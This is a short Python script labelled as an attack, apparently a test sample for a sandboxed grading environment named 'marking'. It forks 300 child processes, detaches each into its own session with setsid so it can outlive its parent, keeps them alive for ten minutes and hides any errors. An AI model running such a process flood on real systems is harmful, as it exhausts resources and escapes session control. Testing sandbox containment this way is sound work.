# attack: start 300 processes in sessions of their own
import socket
assert socket.gethostname() == "marking", "this one does harm: only behind the walls"
try:
    import os, time
    for _ in range(300):
        if os.fork() == 0:
            os.setsid()
            time.sleep(600)
            os._exit(0)
except BaseException:
    pass
